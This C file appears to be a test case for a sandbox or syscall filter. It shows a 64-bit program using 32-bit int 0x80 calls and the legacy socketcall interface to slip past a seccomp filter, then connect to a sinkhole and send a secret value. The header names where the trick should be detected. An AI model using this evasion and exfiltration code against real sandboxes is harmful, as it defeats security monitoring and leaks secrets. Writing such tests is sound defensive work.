// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: A 64-bit program connects and sends by the 32-bit socketcall (int 0x80, number 102). The
 *        socket is made by its own 32-bit number: the sandbox refuses to make one by socketcall.
 * Known from: socketcall(2), whose arguments lie in memory, out of a filter's sight.
 * First: odd doors (32-bit calls); the cgroup hook's copy of the address
 * Second: the sinkhole's record of the bytes; inet_sock_set_state
 */
#include "trick.h"

enum { SOCKET = 359, CONNECT = 3, SEND = 9 };

/* Built without PIE, so that these lie below 4 GiB. */
static unsigned arguments[4];
static struct sockaddr_in to;
static char value[128];

static int own_call(int number, int first, int second, int third)
{
	int result;

	asm volatile("int $0x80"
		     : "=a"(result)
		     : "a"(number), "b"(first), "c"(second), "d"(third)
		     : "memory", "r8", "r9", "r10", "r11");
	return result;
}

static int socketcall(int what, unsigned first, unsigned second, unsigned third)
{
	int result;

	arguments[0] = first;
	arguments[1] = second;
	arguments[2] = third;
	asm volatile("int $0x80"
		     : "=a"(result)
		     : "a"(102), "b"(what), "c"(arguments)
		     : "memory", "r8", "r9", "r10", "r11");
	return result;
}

int main(void)
{
	int fd = own_call(SOCKET, AF_INET, SOCK_STREAM, 0), result;

	if (fd < 0) {
		errno = -fd;
		blocked();
	}
	to = sink(8080);
	strncpy(value, secret(), sizeof(value) - 1);
	result = socketcall(CONNECT, fd, (unsigned)(long)&to, sizeof(to));
	if (!result)
		result = socketcall(SEND, fd, (unsigned)(long)value, strlen(value));
	if (result < 0)
		errx(1, "the call failed: %s", strerror(-result));
	finish(fd);
	performed();
}
